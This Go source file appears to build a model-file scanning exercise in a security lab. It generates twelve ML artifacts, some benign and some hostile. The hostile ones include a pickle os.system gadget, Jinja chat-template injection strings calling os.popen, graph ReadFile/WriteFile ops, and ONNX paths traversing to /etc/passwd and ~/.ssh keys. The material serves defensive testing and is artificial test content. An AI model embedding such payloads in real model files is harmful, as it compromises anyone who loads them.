package zoo

import (
	"context"
	"fmt"
	"io"
	"math/rand/v2"
	"path"

	"quintain/lab"
	"quintain/lab/internal/artifact"
	"quintain/ledger"
)

// A mechanism is how a file does harm, in the words of the hand-in.
type mechanism string

const (
	none     mechanism = "none"
	call     mechanism = "pickle-call"
	nested   mechanism = "nested-archive"
	lambda   mechanism = "lambda-layer"
	graph    mechanism = "graph-file-op"
	template mechanism = "template-injection"
	outside  mechanism = "path-traversal"
	overlap  mechanism = "header-overlap"
)

// mechanisms are those that may be handed in.
var mechanisms = []mechanism{none, call, nested, lambda, graph, template, outside, overlap}

// A file is one of the twelve, and what is true of it.
type file struct {
	name string
	data []byte
	does mechanism // none: it is benign
}

// names are what the acquired bank calls its models.
var names = []string{
	"churn", "collateral", "credit-limit", "desk-assistant", "fraud-rt", "invoice-fields",
	"kyc-documents", "liquidity", "call-notes", "pricing-eu", "sanctions-match", "sme-default",
}

// files makes the twelve files of a source, always in the same order.
func files(s *lab.Source) []file {
	rng := s.Rand("zoo")
	bad := hostile(rng)
	rng.Shuffle(len(bad), func(i, j int) { bad[i], bad[j] = bad[j], bad[i] })
	good := benign(rng)
	rng.Shuffle(len(good), func(i, j int) { good[i], good[j] = good[j], good[i] })
	all := append(append(bad[:6:6], good[:4]...), noisy(rng)...)
	rng.Shuffle(len(all), func(i, j int) { all[i], all[j] = all[j], all[i] })
	for i := range all {
		all[i].name = names[i] + all[i].name
	}
	return all
}

// hostile makes one file of each mechanism. Names are endings for now.
func hostile(rng *rand.Rand) []file {
	shapes := artifact.Shapes()
	g := artifact.NewGadget(rng, shapes[rng.IntN(len(shapes)-1)])
	canary := artifact.Canary + artifact.Word(rng, 6)
	weights := func() []artifact.Tensor { return artifact.Network(rng) }
	inner := artifact.NewProgram(4).Global("os", "system").Text("touch "+canary).Op(0x85, 'R').End()
	t := weights()
	deep := artifact.Zip(artifact.Member{Name: "assets/cache.pkl", Data: inner})
	templates := []string{
		"{%% for m in messages %%}{{ m.content }}{%% endfor %%}{{ cycler.__init__.__globals__.os.popen('touch %s').read() }}",
		"{%% set x = lipsum['__glo' ~ 'bals__'] %%}{%% for m in messages %%}{{ m.content }}{%% endfor %%}{{ x['os'].popen('touch %s').read() }}",
		"{{ ''.__class__.__mro__[1].__subclasses__()[132].__init__.__globals__['popen']('touch %s').read() }}{%% for m in messages %%}{{ m.content }}{%% endfor %%}",
	}
	ops := [][]string{{"Placeholder", "MatMul", "ReadFile", "Identity"}, {"Placeholder", "MatMul", "WriteFile"}, {"Placeholder", "ReadFile", "WriteFile", "MatMul"}}
	locations := []string{"../../../../etc/passwd", "data/../../../.ssh/id_ed25519", "/etc/hostname"}
	return []file{
		{".pt", g.Checkpoint(rng, weights()), call},
		{".pt", artifact.Checkpoint(artifact.NewProgram(2).StateDict(t, nil).End(), t, artifact.Member{Name: "archive/extra/assets.zip", Data: deep}), nested},
		{".keras", artifact.Keras("3.6.0", artifact.Kernels(weights()), artifact.Lambda(bytecode(rng))), lambda},
		{".pb", artifact.SavedModel(weights(), ops[rng.IntN(len(ops))]...), graph},
		{".gguf", artifact.GGUF(3, weights(), fmt.Sprintf(templates[rng.IntN(len(templates))], canary)), template},
		{".onnx", artifact.OutsideONNX(weights(), locations[rng.IntN(len(locations))]), outside},
		{".safetensors", artifact.OverlappingSafetensors(weights()), overlap},
	}
}

// bytecode has the form of marshaled code and is none: nothing can run it.
func bytecode(rng *rand.Rand) []byte {
	b := []byte{0xe3, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 0, 0, 0x43, 0, 0, 0}
	for range 40 {
		b = append(b, byte(rng.UintN(256)))
	}
	return b
}

// chat is a chat template as models in use have it: macros, loops, conditions,
// and nothing that reaches out of it.
const chat = `{%- macro turn(role, text) -%}<|{{ role }}|>{{ text | trim }}<|end|>{%- endmacro -%}
{%- set ns = namespace(system='') -%}
{%- for m in messages -%}{%- if m.role == 'system' -%}{%- set ns.system = m.content -%}{%- endif -%}{%- endfor -%}
{%- if ns.system -%}{{ turn('system', ns.system) }}{%- endif -%}
{%- for m in messages -%}
{%- if m.role not in ['system', 'user', 'assistant'] -%}{{ raise_exception('unknown role ' ~ m.role) }}{%- endif -%}
{%- if m.role != 'system' -%}{{ turn(m.role, m.content) }}{%- endif -%}
{%- endfor -%}
{%- if add_generation_prompt -%}<|assistant|>{%- endif -%}`

// benign makes one harmless file of each format.
func benign(rng *rand.Rand) []file {
	weights := func() []artifact.Tensor { return artifact.Network(rng) }
	t := weights()
	return []file{
		{".pt", artifact.Checkpoint(artifact.NewProgram(2).StateDict(t, nil).End(), t), none},
		{".ckpt", artifact.Legacy(weights()), none},
		{".keras", artifact.Keras("3.6.0", artifact.Kernels(weights())), none},
		{".pb", artifact.SavedModel(weights(), "Placeholder", "MatMul", "BiasAdd", "Relu", "Softmax"), none},
		{".gguf", artifact.GGUF(3, weights(), chat), none},
		{".onnx", artifact.ONNX(weights()), none},
		{".safetensors", artifact.Safetensors(weights()), none},
	}
}

// noisy makes two harmless files that a scanner does not let pass in silence:
// a checkpoint written into a block that was longer, and one under the name of
// another format.
func noisy(rng *rand.Rand) []file {
	padded := artifact.NewProgram(2).Op('}', '(')
	for range 3 + rng.IntN(4) {
		padded.Text(artifact.Word(rng, 7)).Num(int64(rng.IntN(10_000)))
	}
	b := append(padded.Op('u').End(), make([]byte, 64+rng.IntN(200))...)
	return []file{
		{".pkl", b, none},
		{".pt", artifact.Safetensors(artifact.Network(rng)), none},
	}
}

// setup hands the files over.
func setup(_ context.Context, w *lab.Setup) error {
	for _, f := range files(w.Source) {
		if err := w.Write(path.Join("zoo", f.name), f.data); err != nil {
			return err
		}
	}
	return nil
}

// touched is the name of the ledger's note that a payload has run.
const touched = "canary.touched"

// load is what a hasty colleague would do. It runs nothing: what would have
// happened is known.
var load = lab.Act{
	Name: "load", Usage: "NAME",
	Doc: "Load a file of the zoo on a simulated desk to see what happens; this cannot be taken back",
	Run: func(_ context.Context, a *lab.Attempt, args []string, out io.Writer) error {
		if len(args) != 1 {
			return fmt.Errorf("load wants the name of one file, and was given %d", len(args))
		}
		for _, f := range files(a.Source) {
			if f.name != path.Base(args[0]) {
				continue
			}
			if f.does == none {
				fmt.Fprintf(out, "%s is loaded, and nothing else happened.\n", f.name)
				return nil
			}
			_, err := a.Ledger.Append(ledger.Event{Kind: ledger.KindNote, Actor: "desk", Name: touched, Text: f.name})
			fmt.Fprintf(out, "%s is loaded, and with it came what you were to find. Begin again with quintain lab reset S02.\n", f.name)
			return err
		}
		return fmt.Errorf("there is no file %q in the zoo", args[0])
	},
}
